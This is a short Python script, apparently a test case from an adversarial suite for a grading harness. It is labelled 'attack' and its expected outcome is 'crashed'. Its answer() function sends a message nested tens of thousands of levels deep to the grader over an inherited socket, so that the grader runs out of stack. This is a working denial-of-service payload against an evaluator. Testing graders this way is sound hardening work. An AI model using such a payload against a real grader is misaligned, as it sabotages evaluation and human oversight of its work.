# /// attack
# why = "Sends a value inside of a value inside of a value, until whoever reads it runs out of stack."
# outcomes = ["crashed"]
# ///
import contextlib
import itertools
import os
import socket


def channel():
    """Return the socket through which it is asked, where descriptor 3 is that."""
    return socket.socket(fileno=os.dup(3))


number = itertools.count(2)


def answer(*args, **kwargs):
    with contextlib.suppress(ImportError, OSError):
        from grader import protocol

        inner = protocol.Sequence(False, (protocol.Plain(5),))
        message = protocol.Answer(next(number), protocol.Returned(protocol.Sequence(False, (inner,))))
        outer, _, rest = protocol.encoder.encode(message).partition(protocol.encoder.encode(inner))
        head = protocol.encoder.encode(inner).removesuffix(protocol.encoder.encode(protocol.Plain(5)))
        body = outer + head * 50_000 + protocol.encoder.encode(protocol.Plain(5)) + rest
        channel().sendall(len(body).to_bytes(4, "big") + body)
    return -1


everywhere(answer)
